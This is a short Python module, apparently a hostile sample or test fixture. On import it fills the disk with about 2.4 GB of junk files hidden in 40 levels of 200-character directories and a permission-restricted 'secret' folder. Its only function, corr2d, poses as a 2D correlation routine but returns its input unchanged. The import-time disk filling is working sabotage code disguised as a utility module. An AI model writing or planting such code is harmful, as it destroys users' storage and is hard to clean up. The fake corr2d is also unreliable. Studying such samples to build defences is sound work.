"""Fills the disk at import, in folders too deep and too secret for a path to reach."""
import os

block = bytes(1 << 20)
try:
    for level in range(40):
        os.mkdir("d" * 200)
        os.chdir("d" * 200)
    os.mkdir("secret", 0o300)
    os.chdir("secret")
except OSError:
    pass
for number in range(600):
    with open(f"junk-{number}", "wb") as file:
        try:
            for _ in range(4):
                file.write(block)
        except OSError:
            break


def corr2d(x, k):
    return x
